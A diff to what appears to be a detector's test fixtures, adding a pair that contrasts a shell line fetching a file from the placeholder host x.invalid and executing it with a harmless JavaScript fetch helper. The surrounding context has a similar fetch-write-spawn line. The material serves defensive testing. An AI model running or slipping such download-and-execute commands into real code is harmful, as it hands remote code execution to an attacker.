@@ -21,6 +21,12 @@ PAIRS = [
         'const a = fetch("http://x.invalid/a").then((r) => fs.writeFile("/tmp/a", r));\nspawn("/tmp/a");',
         'const url = fetch("http://x.invalid/a").then((r) => fs.writeFile("/tmp/a", r));\nemit(that, arguments, "/tmp/a");',
     ),
+    # An arrow of JavaScript writes into no file.
+    (
+        "load.js",
+        "fetch http://x.invalid/a >response; ./response",
+        'read=async url=>{var response=await fetch(url,{mode:"cors"});if(response.ok){return response.text()}}',
+    ),
     # What a variable is set to is no program, however a shell works it out, and nothing is kept under /dev/null.
     (
         "common.sh",
